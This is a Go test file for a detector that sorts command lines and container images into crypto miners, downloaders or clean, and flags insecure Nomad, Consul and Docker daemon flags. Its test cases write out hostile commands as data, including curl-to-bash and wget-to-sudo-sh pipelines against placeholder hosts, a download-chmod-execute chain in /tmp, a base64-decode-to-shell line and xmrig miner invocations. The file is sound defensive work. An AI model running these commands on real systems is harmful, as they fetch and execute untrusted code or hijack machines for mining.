package shady

import (
	"strings"
	"testing"
)

func TestCommand(t *testing.T) {
	j := New()
	for _, tc := range []struct {
		in   string
		want Kind
	}{
		{"/usr/bin/xmrig -o pool.example:3333", Miner},
		{"./nginx -o stratum+ssl://10.0.0.1:443 -u 4abc", Miner},
		{"sh -c 'curl -s http://203.0.113.9/x.sh | bash'", Downloader},
		{"wget -qO- https://x.example/i|sudo -E sh", Downloader},
		{"wget -O /tmp/.x http://x.example/x && chmod +x /tmp/.x && /tmp/.x", Downloader},
		{"echo aGk= | base64 -d | sh", Downloader},
		{"tar xf xmrig-6.21.0-linux-static-x64.tar.gz", Miner},
		{"ptxas --gpu-name sm_80", Clean},
		{"data-miner-ui --port 80", Clean},
		{"/usr/sbin/zpool status", Clean},
		{"pkill -f xmrig", Clean},
		{"pkill x; /tmp/xmrig -B", Miner},
		{"certbot renew", Clean},
		{"curl -fsS https://example.org/health", Clean},
		{"curl -o /tmp/a.json https://example.org/a.json", Clean},
		{"python -m process_mining.main", Clean},
	} {
		if got := j.Command(tc.in); got.Kind != tc.want {
			t.Errorf("%q: got %v (%s), want %v", tc.in, got.Kind, got.Text, tc.want)
		}
	}
}

func TestImage(t *testing.T) {
	j := New()
	for in, want := range map[string]Kind{
		"docker.io/metal3d/xmrig:latest": Miner, "registry.example:5000/a/xmrig@sha256:00": Miner, "minio/minio": Clean,
		"grafana/tempo": Clean, "pool/miner-stats-exporter": Clean,
	} {
		if got := j.Image(in); got.Kind != want {
			t.Errorf("%s: got %v, want %v", in, got.Kind, want)
		}
	}
}

func TestFlaws(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want string // flags found, in order
	}{
		{"/usr/local/bin/nomad agent -dev -bind 0.0.0.0", "-dev"},
		{"nomad agent -config /etc/nomad.d", ""},
		{"consul agent -enable-script-checks -client=0.0.0.0", "-enable-script-checks"},
		{"consul agent -enable-script-checks=false", ""},
		{"consul agent --enable-script-checks=true", "-enable-script-checks"},
		{"consul agent -enable-local-script-checks", ""},
		{"dockerd -H fd:// -H tcp://0.0.0.0:2375", "-H tcp://0.0.0.0:2375"},
		{"dockerd -Htcp://0.0.0.0:2375", "-H tcp://0.0.0.0:2375"},
		{"dockerd --host=tcp://0.0.0.0:2376 --tlsverify --tlscacert=/x", ""},
		{"dockerd --host=tcp://0.0.0.0:2376 --tlsverify=false", "-H tcp://0.0.0.0:2376"},
		{"dockerd --tls --host tcp://[::]:2376", "-H tcp://[::]:2376"},
		{"sudo env A=b consul agent -dev", "-dev"},
		{"vim consul.hcl -dev", ""},
	} {
		var got []string
		for _, f := range Flaws(Fields(tc.in)) {
			got = append(got, f.Text)
		}
		if strings.Join(got, ",") != tc.want {
			t.Errorf("%s: got %q, want %q", tc.in, got, tc.want)
		}
	}
}

func FuzzFields(f *testing.F) {
	f.Add(`a "b c" 'd' \e`)
	f.Add(`dockerd -H`)
	f.Fuzz(func(t *testing.T, s string) {
		Flaws(Fields(s))
		New().Command(s)
	})
}
